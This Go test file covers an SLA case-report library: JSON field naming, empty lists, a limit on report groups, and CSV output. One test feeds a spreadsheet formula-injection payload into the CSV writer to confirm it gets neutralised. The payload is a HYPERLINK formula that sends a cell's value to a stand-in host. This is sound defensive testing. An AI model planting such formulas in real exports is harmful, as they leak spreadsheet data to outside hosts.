package sla

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"reflect"
	"sort"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// jsonKeys returns the keys of a JSON object, sorted.
func jsonKeys(t *testing.T, raw json.RawMessage) []string {
	t.Helper()
	var m map[string]json.RawMessage
	require.NoError(t, json.Unmarshal(raw, &m))
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

// TestReportJSONNames: every exported report type is written with the
// snake_case names the rest of the library's JSON uses; a row has a name for
// every CSV column (the same name), and the golden pins the whole shape.
func TestReportJSONNames(t *testing.T) {
	p := Default()
	rep, err := p.Report(reportFixture(), weekOpts(GroupByTier, BucketAccepted))
	require.NoError(t, err)
	require.NotEmpty(t, rep.Overdue)
	b, err := json.MarshalIndent(rep, "", "  ")
	require.NoError(t, err)
	checkGolden(t, "week_by_tier.json", []byte(normaliseCalendarVersion(string(b), rep.CalendarVersion)+"\n"))

	var top map[string]json.RawMessage
	require.NoError(t, json.Unmarshal(b, &top))
	assert.Equal(t, []string{"calendar", "calendar_version", "loop", "options", "overdue", "overdue_total", "policy_id",
		"policy_version", "rows", "skipped", "total", "undated"}, jsonKeys(t, b))
	assert.Equal(t, []string{"applicant_paused", "levels", "ratings", "returns", "supervised"}, jsonKeys(t, top["loop"]))
	assert.Equal(t, []string{"bucket", "from", "group_by", "now", "overdue_limit", "to"}, jsonKeys(t, top["options"]))

	rowKeys := jsonKeys(t, top["total"])
	for _, col := range csvHeader {
		assert.Contains(t, rowKeys, col, "the CSV column %s has the same name in JSON", col)
	}
	assert.Equal(t, []string{"accepted", "avg_workdays_to_close", "closed_late", "closed_on_time", "ever_late", "group",
		"on_time_rate", "open", "open_overdue", "overdue_workdays", "p90_workdays_to_close", "rated", "reopened",
		"returned", "satisfaction_rate", "satisfied", "supervised", "supervision_reached", "visited"}, rowKeys)

	var items []json.RawMessage
	require.NoError(t, json.Unmarshal(top["overdue"], &items))
	itemKeys := jsonKeys(t, items[0])
	for _, col := range overdueCSVHeader {
		assert.Contains(t, itemKeys, col, "the overdue CSV column %s has the same name in JSON", col)
	}

	// The JSON decodes back to the same report (times compared as instants).
	var back Report
	require.NoError(t, json.Unmarshal(b, &back))
	b2, err := json.MarshalIndent(back, "", "  ")
	require.NoError(t, err)
	assert.Equal(t, string(b), string(b2))
}

// TestReportJSONEmptyLists: a report without rows or overdue items writes
// empty lists, not null, and an overdue item without a deadline leaves due
// and last_day out rather than writing year 1.
func TestReportJSONEmptyLists(t *testing.T) {
	p := Default()
	rep, err := p.Report(nil, weekOpts(GroupByTier, BucketAccepted))
	require.NoError(t, err)
	b, err := json.Marshal(rep)
	require.NoError(t, err)
	assert.Contains(t, string(b), `"rows":[]`)
	assert.Contains(t, string(b), `"overdue":[]`)

	b, err = json.Marshal(OverdueItem{CaseID: "C-1", State: StatePaused})
	require.NoError(t, err)
	assert.NotContains(t, string(b), `"due"`)
	assert.NotContains(t, string(b), `"last_day"`)
	assert.NotContains(t, string(b), "0001-01-01")

	b, err = json.Marshal(Move{CaseID: "C-1", DeltaWorkdays: -2})
	require.NoError(t, err)
	assert.Equal(t, []string{"case_id", "delta_workdays", "new_due", "new_last_day", "old_due", "old_last_day"}, jsonKeys(t, b))
}

// TestReportCSVNeutralisesFormulas: a text cell from the cases that a
// spreadsheet would run as a formula is written with a leading quote, in
// both CSVs; other text is written as it is; numbers the library computes
// are never quoted, even negative ones.
func TestReportCSVNeutralisesFormulas(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"a formula starting with = (HYPERLINK exfiltration) is quoted", `=HYPERLINK("http://x/?"&A1,"点击")`, `'=HYPERLINK("http://x/?"&A1,"点击")`},
		{"a cell starting with + is quoted", "+86 12345", "'+86 12345"},
		{"a cell starting with - is quoted (−1+1 would be computed)", "-1+1", "'-1+1"},
		{"a cell starting with @ is quoted (@SUM is a formula)", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"a cell starting with a tab is quoted", "\t=1", "'\t=1"},
		{"a cell starting with a carriage return is quoted", "\r=1", "'\r=1"},
		{"a full-width ＝ is quoted too", "＝1+1", "'＝1+1"},
		{"an = inside the text is harmless and kept", "科室=甲", "科室=甲"},
		{"ordinary Chinese text is kept", "社保中心", "社保中心"},
		{"an empty cell stays empty", "", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, tc.want, csvText(tc.in))
		})
	}

	// Through the writers: a hand-built report whose text comes from hostile
	// cases and whose figures include a negative number.
	rep := Report{
		Options: weekOpts(GroupByDepartment, BucketAccepted),
		Rows:    []ReportRow{{Group: "=1+1", Accepted: 1, Open: 1, OverdueWorkdays: -3}},
		Total:   ReportRow{Accepted: 1, Open: 1, OverdueWorkdays: -3},
		Overdue: []OverdueItem{{CaseID: "@C-1", Group: "=1+1", Tier: "+T1", Department: "=1+1", Unit: "-u",
			Handler: "\t张三", Due: rt("2025-10-01 00:00"), LastDay: rd("2025-09-30"), OverdueDays: -3, State: StateOverdue}},
	}
	var buf bytes.Buffer
	require.NoError(t, rep.WriteCSV(&buf))
	recs, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	assert.Equal(t, csvHeader, recs[0], "the header is unchanged")
	assert.Equal(t, "'=1+1", recs[1][0])
	assert.Equal(t, "-3", recs[1][9], "overdue_workdays, a number, is not quoted")
	assert.Equal(t, "TOTAL", recs[2][0])
	for _, rec := range recs[1:] {
		for i, cell := range rec[1:] {
			if cell != "" {
				_, err := strconv.ParseFloat(cell, 64)
				assert.NoError(t, err, "column %s is a number", csvHeader[i+1])
			}
		}
	}

	buf.Reset()
	require.NoError(t, rep.WriteOverdueCSV(&buf))
	recs, err = csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	assert.Equal(t, overdueCSVHeader, recs[0])
	assert.Equal(t, []string{"'@C-1", "'=1+1", "'+T1", "'=1+1", "'-u", "'\t张三",
		"2025-10-01T00:00:00+08:00", "2025-09-30", "-3", "overdue"}, recs[1])
}

// TestReportTypesAllTagged: no exported field of a report type is left
// without a JSON name (a new field would otherwise appear in Go spelling).
func TestReportTypesAllTagged(t *testing.T) {
	for _, v := range []any{Report{}, ReportRow{}, ReportOptions{}, OverdueItem{}, Move{}} {
		typ := reflect.TypeOf(v)
		for i := 0; i < typ.NumField(); i++ {
			f := typ.Field(i)
			if !f.IsExported() {
				continue
			}
			name, _, _ := strings.Cut(f.Tag.Get("json"), ",")
			assert.NotEmpty(t, name, "%s.%s has no json name", typ.Name(), f.Name)
			assert.Equal(t, strings.ToLower(name), name, "%s.%s", typ.Name(), f.Name)
		}
	}
}

// Grouping a week of cases by a field that is different on every case (here the handler) would
// make a report of as many rows as cases and a Reporter as large as the input. The report holds
// at most MaxReportGroups groups; the case that would open one more is refused, naming it, and
// the report built so far is unchanged.
func TestReportRefusesMoreThanMaxReportGroups(t *testing.T) {
	p := Default()
	r, err := p.NewReporter(weekOpts(GroupByHandler, BucketAccepted))
	require.NoError(t, err)
	for i := range MaxReportGroups {
		c := mkCase(fmt.Sprintf("C%05d", i), "社保科", fmt.Sprintf("经办人%05d", i), "window",
			evAccepted("2025-09-30 17:00"), evClassified("T1", "2025-09-30 17:00"))
		require.NoError(t, r.Add(c))
	}
	// A case for a handler already in the report is still counted.
	require.NoError(t, r.Add(mkCase("again", "社保科", "经办人00000", "window",
		evAccepted("2025-09-30 17:00"), evClassified("T1", "2025-09-30 17:00"))))
	err = r.Add(mkCase("one-too-many", "社保科", "经办人-new", "window",
		evAccepted("2025-09-30 17:00"), evClassified("T1", "2025-09-30 17:00")))
	require.Error(t, err)
	assert.Contains(t, err.Error(), `case one-too-many would open group 10001 ("经办人-new"), more than the 10000 a report holds`)
	rep := r.Report()
	assert.Len(t, rep.Rows, MaxReportGroups)
	assert.Equal(t, MaxReportGroups+1, rep.Total.Accepted, "the refused case is not counted")
}
